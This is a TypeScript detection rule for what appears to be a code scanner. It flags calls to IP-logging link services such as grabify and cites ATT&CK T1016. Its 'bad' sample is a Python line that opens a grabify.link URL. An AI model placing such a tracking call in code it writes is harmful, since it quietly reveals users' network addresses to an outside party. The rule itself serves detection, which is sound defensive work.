import { string } from "../match.ts";
import { defineRule } from "../rule.ts";
import { VISITOR_LOGGERS } from "../vocabulary/hosts.ts";

export default defineRule({
  id: "visitor-logger",
  category: "suspicious_network",
  severity: "high",
  confidence: "medium",
  languages: ["python", "javascript", "shell"],
  title: "a link that logs who opens it",
  why: "Whoever made it learns the address of every machine that runs this.",
  fix: "Link to the page itself.",
  references: ["ATT&CK T1016"],
  match: string(VISITOR_LOGGERS),
  bad: ['import urllib.request\nurllib.request.urlopen("https://grabify.link/AB12CD")'],
  good: ['url = "https://example.com/grabify"', 'name = "iplogger"'],
});
